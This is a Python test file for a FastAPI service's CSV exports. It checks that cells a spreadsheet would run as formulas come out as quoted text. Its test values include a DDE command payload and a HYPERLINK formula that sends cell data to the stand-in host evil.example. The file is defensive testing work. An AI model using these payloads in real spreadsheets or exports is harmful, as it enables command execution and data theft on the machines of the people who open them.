"""CSV cells a spreadsheet would run as formulas are exported as text (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from projections.exports.journal import neutral_cell

SCHOOL_NAME = "=cmd|' /C calc'!A0"
REFERENCE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(params=["sqlite", "postgres"])
def store_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """Exports read a store that outlives a request: SQLite and PostgreSQL."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path}/ledger.sqlite3"
    else:
        yield request.getfixturevalue("pg_schema_url")


def _ok(response: Any) -> dict[str, Any]:
    assert response.status_code in (200, 201), response.text
    body: dict[str, Any] = response.json()
    return body


def _csv(client: TestClient, path: str, position: int) -> list[dict[str, str]]:
    response = client.get(f"/v1/exports/{path}", params={"min_position": position})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_formulas_in_names_and_references_are_exported_as_text(
    client: TestClient, headers: Any
) -> None:
    _ok(client.post("/v1/donors", json={"code": "evil", "name": "+SUM(1)"}, headers=headers()))
    _ok(client.post("/v1/schools", json={
        "code": "calc", "name": SCHOOL_NAME, "school_type": "hub", "region": "aktobe",
        "district": "@Khromtau"}, headers=headers()))  # fmt: skip
    grant = _ok(client.post("/v1/grants", json={
        "donor": "evil", "school": "calc", "amount": 1_000_00, "value_date": "2025-01-10",
        "reference": REFERENCE}, headers=headers(key="-2+3-formula-key")))  # fmt: skip
    position = int(grant["position"])

    [school] = _csv(client, "schools.csv", position)
    assert school["name"] == "'" + SCHOOL_NAME
    assert school["district"] == "'@Khromtau"
    [donor] = _csv(client, "donors.csv", position)
    assert donor["name"] == "'+SUM(1)"
    legs = _csv(client, "journal.csv", position)
    assert legs and all(r["reference"] == "'" + REFERENCE for r in legs)
    assert all(r["idempotency_key"] == "'-2+3-formula-key" for r in legs)
    # Amounts stay numbers: a credit's leading minus is not a formula.
    assert sorted(int(r["amount_minor"]) for r in legs) == [-1_000_00, 1_000_00]
    assert any(r["amount"].startswith("-") for r in legs)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("-12.50", "-12.50"), ("-7", "-7"), (-7, -7),
     ("plain", "plain"), ("a=b", "a=b"), ("", "")],
)  # fmt: skip
def test_the_owasp_rule(cell: Any, shown: Any) -> None:
    assert neutral_cell(cell) == shown
